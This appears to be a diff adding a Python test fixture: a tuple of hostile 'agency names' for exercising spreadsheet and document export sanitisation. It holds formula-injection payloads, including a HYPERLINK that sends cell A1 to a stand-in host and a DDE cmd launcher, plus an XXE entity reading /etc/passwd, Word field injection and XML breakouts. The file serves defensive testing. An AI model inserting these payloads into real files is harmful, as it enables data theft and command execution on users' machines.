@@ -1,0 +1,26 @@
+"""Names of agencies that somebody wrote to make something of a file that it is not."""
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://x.example/?"&A1,"Sở Nội vụ")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "http://x.example/a",
+    "mailto:a@x.example",
+    "internal:Sheet2!A1",
+    "<w:instrText>INCLUDETEXT</w:instrText>",
+    "</w:t></w:r><w:p/>",
+    "&lt;script&gt; &amp; ]]>",
+    '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
+    "a\x00b\x0bc\x1b[31md",
+    "\ufffe\uffff\ud800 lone",
+    "\u202egnoc\u202c",
+    "_x0041__x000D_",
+    "History",
+    "{=1+1}",
+    "a\nb" + "W" * 200,
+    "\x02[số]\x02x\x03",
+    "'quoted' [a]:b*c?d/e\\f",
+)
